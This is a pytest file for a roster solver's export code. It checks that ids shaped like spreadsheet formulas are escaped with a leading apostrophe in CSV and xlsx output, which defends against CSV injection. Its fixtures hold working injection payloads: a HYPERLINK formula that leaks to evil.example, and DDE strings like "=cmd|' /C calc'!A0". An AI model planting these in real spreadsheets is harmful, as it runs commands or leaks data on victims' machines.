"""Issue 13 B4: ids that look like spreadsheet formulas stay text in every CSV and workbook
the package writes (OWASP CSV injection: a leading ``'``), and the instance CSV folder still
reads back unchanged.
"""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from test_export import instance_data, roster_data

from solver.cli import main
from solver.files.export import export_roster
from solver.files.table_writers import FORMULA_STARTS, csv_cell, unquote_csv_cell
from solver.files.workbook_read import read_workbook
from solver.files.workbook_write import write_workbook
from solver.instance import parse_instance
from solver.roster import parse_roster

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = {
    "C1": '=HYPERLINK("http://evil.example/?leak","C1")',
    "T2": "+T2",
    "AM": "-AM",
    "C3": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def renamed(document: Any) -> Any:
    """The document with the ids of :data:`HOSTILE` renamed everywhere."""
    if isinstance(document, dict):
        return {key: renamed(value) for key, value in document.items()}
    if isinstance(document, list):
        return [renamed(value) for value in document]
    if isinstance(document, str):
        return HOSTILE.get(document, document)
    return document


def read_cells(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+T2", "'+T2"),
        ("-AM", "'-AM"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tC1", "'\tC1"),
        ("\rC1", "'\rC1"),
        ("C1", "C1"),
        ("a=b", "a=b"),
        (-3, -3),
        (None, ""),
    ],
)
def test_csv_cell(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell
    if isinstance(value, str):
        assert unquote_csv_cell(cell) == value


def test_roster_csv_tables_neutralise_formula_ids(tmp_path: Path) -> None:
    instance = parse_instance(renamed(instance_data()))
    roster = parse_roster(renamed(roster_data()))
    written = export_roster(instance, roster, "csv", tmp_path / "out")
    cells = {path.name: read_cells(path) for path in written}
    for name, rows in cells.items():
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (name, cell)
    client_ids = {row[0] for row in cells["client_weeks.csv"][1:]}
    assert "'" + HOSTILE["C1"] in client_ids and "'" + HOSTILE["C3"] in client_ids
    assert "'+T2" in {row[0] for row in cells["therapist_weeks.csv"][1:]}
    assert "'-AM" in {row[0] for row in cells["group_lists.csv"][1:]}


def test_xlsx_keeps_formula_ids_as_text(tmp_path: Path) -> None:
    instance = parse_instance(renamed(instance_data()))
    roster = parse_roster(renamed(roster_data()))
    out = tmp_path / "roster.xlsx"
    export_roster(instance, roster, "xlsx", out)
    with zipfile.ZipFile(out) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(out)
    cells = [c for row in book["client_weeks"].iter_rows(min_row=2) for c in row]
    hostile = [c for c in cells if c.value == HOSTILE["C1"]]
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_the_instance_csv_folder_reads_back_formula_ids(tmp_path: Path) -> None:
    instance = parse_instance(renamed(instance_data()))
    folder = tmp_path / "week"
    write_workbook(instance, folder)
    assert ["'" + HOSTILE["C1"]] == [
        row[0] for row in read_cells(folder / "clients.csv") if row[0].endswith('"C1")')
    ]
    assert read_workbook(folder) == instance.as_version(2)  # a workbook reads as version 2


def test_diff_csv_neutralises_formula_ids(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    previous = roster_data()
    new = roster_data()
    new["groups"][1]["facilitator"] = "=cmd|' /C calc'!A0"
    (tmp_path / "previous.json").write_text(json.dumps(previous), encoding="utf-8")
    (tmp_path / "new.json").write_text(json.dumps(new), encoding="utf-8")
    out = tmp_path / "changes.csv"
    assert (
        main(
            ["diff", str(tmp_path / "previous.json"), str(tmp_path / "new.json")]
            + ["--csv", str(out)]
        )
        == 0
    )
    rows = read_cells(out, encoding="utf-8")
    assert rows[0][0] == "subject"
    assert "'=cmd|' /C calc'!A0" in rows[1]
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert "=cmd" in capsys.readouterr().out  # the sentences on screen are unchanged
